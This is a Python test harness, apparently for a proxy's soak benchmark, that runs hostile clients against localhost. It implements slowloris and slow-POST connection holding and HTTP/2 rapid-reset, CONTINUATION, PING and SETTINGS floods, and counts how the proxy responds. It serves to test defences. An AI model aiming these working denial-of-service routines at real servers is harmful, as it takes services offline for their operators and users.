#!/usr/bin/env python3
"""Hostile clients for bench/soak.sh (standard library only: raw sockets, hand-written frames).

usage:
  hostile.py slowloris PORT N SECONDS    hold N connections sending a request head a byte at a
                                         time (reopening those the proxy closes); prints
                                         "opened closed_by_proxy"
  hostile.py slowpost PORT N SECONDS     the same with a body that never completes
  hostile.py h2 KIND PORT SECONDS        HTTP/2 flood on fresh connections, KIND one of
                                         rapid-reset, continuation, ping, settings; prints
                                         "connections goaways frames_sent"
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET_BLOCK = bytes([0x82, 0x86, 0x84, 0x41, 0x01]) + b"h"


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream & 0x7FFFFFFF) + payload


def has_goaway(data):
    """Walk the server's frames (its first bytes are a frame header)."""
    at = 0
    while at + 9 <= len(data):
        n = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == 0x7:
            return True
        at += 9 + n
    return False


def slow(port, n, seconds, prefix, head):
    deadline = time.time() + seconds
    conns = {}
    opened = closed = 0

    def open_one():
        nonlocal opened
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(prefix)
        s.setblocking(False)
        opened += 1
        conns[s] = 0

    for _ in range(n):
        open_one()
    while time.time() < deadline:
        for s in list(conns):
            pos = conns[s]
            try:
                if pos < len(head):
                    s.send(head[pos:pos + 1])
                    conns[s] = pos + 1
                try:
                    if s.recv(4096) == b"":
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
            except OSError:
                closed += 1
                del conns[s]
                s.close()
                open_one()
        time.sleep(1.0)
    for s in conns:
        s.close()
    print(opened, closed)


def h2_flood(kind, port, seconds):
    deadline = time.time() + seconds
    conns = goaways = sent = 0
    while time.time() < deadline:
        try:
            s = socket.create_connection(("127.0.0.1", port))
        except OSError:
            time.sleep(0.01)
            continue
        conns += 1
        s.settimeout(2)
        batch = bytearray(PREFACE + frame(0x4, 0, 0))
        if kind == "rapid-reset":
            for i in range(1000):
                sid = 2 * i + 1
                batch += frame(0x1, 0x5, sid, GET_BLOCK) + frame(0x3, 0, sid, struct.pack(">I", 8))
        elif kind == "continuation":
            batch += frame(0x1, 0, 1, GET_BLOCK)
            for _ in range(5000):
                batch += frame(0x9, 0, 1, b"\x40\x01x\x01y")
        elif kind == "ping":
            for _ in range(5000):
                batch += frame(0x6, 0, 0, b"12345678")
        elif kind == "settings":
            for _ in range(5000):
                batch += frame(0x4, 0, 0, struct.pack(">HI", 3, 100))
        try:
            s.sendall(batch)
            sent += 1
        except OSError:
            pass
        data = b""
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        if has_goaway(data):
            goaways += 1
        s.close()
    print(conns, goaways, sent)


def main():
    mode = sys.argv[1]
    if mode == "slowloris":
        slow(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), b"", b"GET / HTTP/1.1\r\nHost: stable.local\r\nX-a: " + b"b" * 64)
    elif mode == "slowpost":
        head = b"POST / HTTP/1.1\r\nHost: stable.local\r\nContent-Length: 100000\r\n\r\n"
        slow(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), head, b"x" * 64)
    elif mode == "h2":
        h2_flood(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
